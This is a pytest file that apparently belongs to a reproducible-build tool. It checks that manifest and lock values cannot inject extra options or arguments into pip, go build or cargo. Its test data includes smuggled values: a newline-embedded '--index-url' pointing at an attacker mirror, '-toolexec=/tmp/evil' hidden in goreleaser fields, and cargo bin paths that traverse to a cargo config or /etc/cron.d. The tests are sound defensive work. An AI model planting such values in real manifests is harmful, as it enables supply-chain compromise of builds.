"""Manifest and lock values never become option lines or extra arguments of the fetch phase.

The fetch phase writes what a repository declares into files and command lines its tools
read (pip's requirements file, npm's and cargo's arguments, ``go build -ldflags``). A value
with an embedded newline or a leading dash must be refused with exit 2 naming it, and a
valid one must be written as re-serialised from its parsed parts, never copied as text.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from reprobuild.ecosystems.golang.goreleaser import read_goreleaser
from reprobuild.ecosystems.interface import FetchPlan
from reprobuild.errors import RecipeError

from .test_fetch import HATCH, UV_LOCK, H, make_plan, recipe, tree, uv_package

REPO_ROOT = Path(__file__).resolve().parents[2]
OPTION = "--index-url https://mirror.attacker.example/simple/"


def _pyproject(*requires: str) -> str:
    return HATCH.replace('requires = ["hatchling>=1.27"]',
                         f"requires = [{', '.join(json.dumps(r) for r in requires)}]")


def _requirements(plan: FetchPlan) -> list[str]:
    files = dict(plan.files)
    return files["requirements.txt"].decode().splitlines()


def test_a_build_requirement_with_an_embedded_option_line_is_refused_naming_it(
        tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text(_pyproject(f"hatchling\n{OPTION}"))
    proc = subprocess.run([sys.executable, "-m", "reprobuild", "check", str(project)],
                          capture_output=True, text=True, cwd=REPO_ROOT, timeout=120,
                          check=False)
    assert proc.returncode == 2, proc.stderr
    error = next(line for line in proc.stderr.splitlines() if line.startswith("error:"))
    assert "[build-system] requires" in error
    assert f"'hatchling\\n{OPTION}'" in error  # the requirement, named on one line
    assert not any(line.lstrip().startswith("--index-url")
                   for line in proc.stdout.splitlines() + proc.stderr.splitlines())


def test_build_requirements_are_rewritten_from_their_parsed_parts() -> None:
    plan = make_plan(tree({"pyproject.toml": _pyproject(
        "Hatchling  >= 1.27 ,< 2 ;python_version>='3.8'", "hatch-vcs[toml]  ")}),
        recipe("python-build"))
    assert _requirements(plan)[1:] == ['Hatchling<2,>=1.27 ; python_version >= "3.8"',
                                       "hatch-vcs[toml]"]


def test_pins_are_rewritten_from_their_parsed_parts() -> None:
    from reprobuild.ecosystems.interface import FetchSettings  # noqa: PLC0415
    from reprobuild.ecosystems.python.plan import DEFAULT_TARGET, plan_python  # noqa: PLC0415

    settings = FetchSettings(origin="test", lock=None, pins=("Hatchling == 1.27.0",))
    plan = plan_python(tree({"pyproject.toml": HATCH}), settings, DEFAULT_TARGET)
    files = dict(plan.files)
    assert files["constraints.txt"].decode() == "Hatchling==1.27.0\n"


@pytest.mark.parametrize("lock", [
    # A version nobody checks (no specifier asks about it) carrying an option line.
    UV_LOCK.replace(
        'name = "pluggy"\nversion = "1.6.0"', f'name = "pluggy"\nversion = "1.6.0\\n{OPTION}"'),
    # A dependency name (and the package it names) carrying one.
    UV_LOCK.replace('{ name = "pluggy" }', f'{{ name = "pluggy\\n{OPTION}" }}').replace(
        'name = "pluggy"\nversion', f'name = "pluggy\\n{OPTION}"\nversion'),
])
def test_uv_lock_values_with_an_option_line_are_refused(lock: str) -> None:
    source = tree({"pyproject.toml": _pyproject("hatchling"), "uv.lock": lock})
    try:
        plan = make_plan(source, recipe("python-build"))
    except RecipeError as exc:
        assert "uv.lock" in exc.message and "pluggy" in exc.message
        return
    lines = _requirements(plan)
    assert not any(line.startswith("-") for line in lines), lines
    pytest.fail(f"the lock's value was not refused: {lines}")


def test_a_valid_uv_lock_is_still_pinned_line_by_line() -> None:
    lock = UV_LOCK + uv_package("extra-tool", "1.0", H["other"])
    plan = make_plan(tree({"pyproject.toml": HATCH, "uv.lock": lock}), recipe("python-build"))
    lines = _requirements(plan)
    assert lines[1] == f"hatchling==1.28.0 --hash=sha256:{H['hatchling']}"
    assert all(line.count("==") == 1 for line in lines[1:])


# --------------------------------------------------------------------------- goreleaser


def _goreleaser(build: str) -> bytes:
    return f"builds:\n  - goos: [linux]\n{build}".encode()


@pytest.mark.parametrize(("build", "named"), [
    # $REPROBUILD_GO_MAINS is split into words on go build's command line.
    ("    main: ./cmd/demo -toolexec=/tmp/evil\n", "./cmd/demo -toolexec=/tmp/evil"),
    ("    main: './cmd/*'\n", "./cmd/*"),
    ("    tags: [netgo, 'x -toolexec=/tmp/evil']\n", "x -toolexec=/tmp/evil"),
    ('    ldflags: ["-s\\n-X main.version=1"]\n', "-s\\n-X main.version=1"),
])
def test_goreleaser_values_that_would_be_more_than_one_argument_are_refused(
        build: str, named: str) -> None:
    from .test_ecosystem_go import _released  # noqa: PLC0415 - the Go tests' source tree

    with pytest.raises(RecipeError) as refused:
        read_goreleaser(_released(_goreleaser(build), "v1.0.0"))
    assert refused.value.exit_code == 2 and named in refused.value.message


def test_goreleaser_values_of_real_releases_are_still_applied() -> None:
    from .test_ecosystem_go import _released  # noqa: PLC0415

    release = read_goreleaser(_released(_goreleaser(
        "    main: ./cmd/github-mcp-server\n    tags: [netgo, osusergo]\n"
        "    ldflags: ['-s -w -X main.version={{.Version}} -X \"main.date={{.Date}}\"']\n"),
        "v1.0.0"))
    assert release is not None
    assert release.mains == ("./cmd/github-mcp-server",) and release.tags == "netgo,osusergo"
    assert release.ldflags.startswith("-s -w -X main.version=1.0.0 -X \"main.date=")


# --------------------------------------------------------------------------- cargo


@pytest.mark.parametrize("target", ["../../home/fetch/.cargo/config.toml", "/etc/cron.d/x",
                                    "src/bin/a\nb.rs"])
def test_cargo_target_paths_outside_the_project_are_refused_naming_them(target: str) -> None:
    from .test_ecosystem_rust import LOCK, plan, tree  # noqa: PLC0415 - the Rust tests' tree

    manifest = ('[package]\nname = "srv"\nversion = "1.0.0"\nedition = "2021"\n\n'
                f"[[bin]]\nname = \"srv\"\npath = {json.dumps(target)}\n").encode()
    with pytest.raises(RecipeError) as refused:
        plan(tree({"Cargo.toml": manifest, "Cargo.lock": LOCK}))
    assert refused.value.exit_code == 2 and repr(target) in refused.value.message
